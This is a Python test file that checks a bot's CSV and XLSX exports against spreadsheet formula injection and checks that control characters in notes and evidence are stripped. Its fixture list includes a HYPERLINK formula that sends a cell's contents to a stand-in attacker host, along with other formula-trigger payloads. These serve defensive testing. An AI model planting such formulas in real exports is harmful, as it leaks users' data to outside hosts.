"""Exports never run what people typed, and typed control characters are never stored."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.inputs import UpdateInput
from bot.permissions import Actor
from bot.plans.export import plan_rows, write_csv, write_file
from bot.plans.importer import import_plan
from bot.plans.parse import parse_plan
from bot.services.evidence_writes import EvidenceInput, add_evidence
from bot.services.writes import apply_update
from helpers import LONDON, NOW
from storage.models import Action, Evidence, Update

DATA = Path(__file__).resolve().parents[2] / "bot" / "data"
COORDINATOR = Actor(user_id="UCOORD", coordinator=True)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click for evidence")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def _action(session: Session) -> Action:
    parsed = parse_plan(DATA / "lily.yaml", review="lily")
    import_plan(parsed.document, session=session, now=NOW, today=NOW.date(), notes=parsed.notes)
    action = session.scalars(select(Action).where(Action.ref == "1.1")).one()
    return action


def _raw_note(session: Session, action: Action, note: str) -> None:
    # An older bot stored what was typed as it came: exports must cope with such rows.
    session.add(
        Update(
            action_id=action.id,
            user_id="UOWNER",
            created_at=NOW,
            source="modal",
            status_before=action.status,
            status_after=action.status,
            note=note,
        )
    )
    session.flush()


def _csv_cells(session: Session) -> list[str]:
    out = io.StringIO()
    write_csv(plan_rows("lily", session=session, now=NOW, tz=LONDON), out)
    return [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]


def _xlsx_cells(session: Session, path: Path) -> list[object]:
    write_file(plan_rows("lily", session=session, now=NOW, tz=LONDON), "lily", "xlsx", path)
    book = load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_that_looks_like_a_formula_is_text_in_csv_and_xlsx(
    session: Session, tmp_path: Path, note: str
) -> None:
    _raw_note(session, _action(session), note)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for cells in (_csv_cells(session), _xlsx_cells(session, tmp_path / "plan.xlsx")):
        texts = [c for c in cells if isinstance(c, str)]
        assert not [c for c in texts if c.startswith(dangerous)]
        assert any("HYPERLINK" in c or "SUM" in c or "1+" in c or "2+3" in c for c in texts)


def test_a_note_with_a_vertical_tab_does_not_break_the_xlsx_export(
    session: Session, tmp_path: Path
) -> None:
    _raw_note(session, _action(session), "first line\vsecond line\x0cthird\x1b")
    cells = _xlsx_cells(session, tmp_path / "plan.xlsx")
    assert any(isinstance(c, str) and "first line\nsecond line\nthird" in c for c in cells)
    assert not [c for c in _csv_cells(session) if "\v" in c or "\x1b" in c or "\x0c" in c]


def test_control_characters_typed_in_an_update_are_not_stored(session: Session) -> None:
    action = _action(session)
    data = UpdateInput(note="Met the team\vagreed the plan\x07 today\x1b")
    update = apply_update(
        action,
        data,
        actor=COORDINATOR,
        source="modal",
        now=NOW,
        today=NOW.date(),
        session=session,
    )
    assert update.note == "Met the team\nagreed the plan today"


def test_control_characters_in_evidence_are_not_stored(session: Session) -> None:
    action = _action(session)
    add_evidence(
        action,
        EvidenceInput(kind="message", description="Minutes\vof the\x00 board", excerpt="a\x1bb"),
        actor=COORDINATOR,
        now=NOW,
        session=session,
    )
    evidence = session.scalars(select(Evidence)).one()
    assert (evidence.description, evidence.excerpt) == ("Minutes\nof the board", "ab")
